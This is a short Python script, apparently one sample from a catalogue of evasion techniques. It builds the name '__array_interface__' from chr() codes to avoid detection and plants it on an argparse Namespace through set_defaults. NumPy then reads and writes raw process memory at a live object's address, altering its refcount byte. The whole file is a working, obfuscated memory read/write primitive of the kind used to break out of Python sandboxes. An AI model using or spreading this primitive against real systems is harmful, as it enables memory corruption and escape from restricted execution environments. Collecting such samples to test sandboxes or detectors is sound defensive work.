# source: CPython Lib/argparse.py set_defaults/parse_known_args (setattr(namespace, dest, default) for every _defaults key); numpy array interface protocol
# family: def's own **kwargs rebound by walrus, spread into ArgumentParser.set_defaults -> parse_args setattr by key
# goal: parse_args() puts __array_interface__ on the Namespace; np.asarray reads/writes raw memory at an object's address
import argparse
import numpy as np
def s(*c):
    return "".join(map(chr, c))
class Box:
    pass
box = Box()
def mk():
    addr = int(repr(box).split()[-1][:-1], 16)
    key = s(95, 95) + s(97,114,114,97,121,95,105,110,116,101,114,102,97,99,101) + s(95, 95)
    return {key: {"data": (addr, False), "shape": (32,), "typestr": "|u1", "version": 3}}
p = argparse.ArgumentParser(description="strategy")
p.add_argument("--window", type=int, default=20)
def configure(**kw):
    (kw := mk())
    p.set_defaults(**kw)
configure()
args = p.parse_args([])
view = np.asarray(args)
print("raw bytes of a live object:", view.tolist())
view[0] = view[0] + 1
print("refcount byte written through it:", view[0])
